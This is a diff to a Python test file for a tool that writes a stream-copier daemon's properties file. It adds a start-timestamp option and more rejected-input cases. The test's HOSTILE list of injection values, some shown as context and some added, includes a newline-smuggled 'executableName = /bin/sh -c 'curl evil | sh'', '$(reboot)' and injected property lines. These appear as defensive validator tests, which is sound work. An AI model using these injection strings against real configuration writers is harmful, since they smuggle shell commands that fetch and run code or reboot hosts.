@@ -49,6 +49,7 @@ PARAMETER_OF = {
     "copier.targetRoleArn": "TargetRoleArn",
     "copier.targetExternalId": "TargetExternalId",
     "copier.targetRegionName": "TargetRegion",
+    "initialPositionInStreamExtended": "StartTimestamp",
 }
 
 
@@ -84,6 +85,22 @@ def test_the_parameters_become_a_file_check_config_accepts(tmp_path: Path) -> No
     )
 
 
+def test_a_start_at_a_point_in_time_replaces_the_sample_s_initial_position(tmp_path: Path) -> None:
+    """StartTimestamp's two lines (scripts/copier.yaml): initialPositionInStream commented out (the daemon takes
+    one of the two), initialPositionInStreamExtended set; check-config reads the start."""
+    status, out = _configure(
+        tmp_path, {**GOOD, "initialPositionInStream": "", "initialPositionInStreamExtended": "1767225600"}
+    )
+    assert status == 0
+    written = {k: v for k, (_, v) in parse_properties(out.read_text()).items()}
+    assert "initialPositionInStream" not in written
+    assert written["initialPositionInStreamExtended"] == "1767225600"
+    assert parse_config(out.read_text(), str(out)).start_ms == 1_767_225_600_000
+    status, out = _configure(tmp_path, {**GOOD, "initialPositionInStream": "TRIM_HORIZON"})  # no start: as before
+    assert status == 0 and parse_config(out.read_text(), str(out)).start_ms is None
+    assert _configure(tmp_path, {**GOOD, "initialPositionInStreamExtended": "1767225600000"})[0] != 0
+
+
 HOSTILE = [
     ("copier.dedupKey", "json:a\nexecutableName = /bin/sh -c 'curl evil | sh'", "control character"),
     ("copier.dedupKey", "json:a\\", "backslash"),  # a properties line continuation
@@ -95,6 +112,8 @@ HOSTILE = [
     ("regionName", "$(reboot)", "does not match"),
     ("workerId", "i-0abc\nexecutableName=/bin/sh", "control character"),
     ("workerId", "i-0abc host", "does not match"),
+    ("initialPositionInStreamExtended", "1767225600\ninitialPositionInStream=LATEST", "control character"),
+    ("initialPositionInStream", "AT_TIMESTAMP", "does not match"),
 ]
 
 
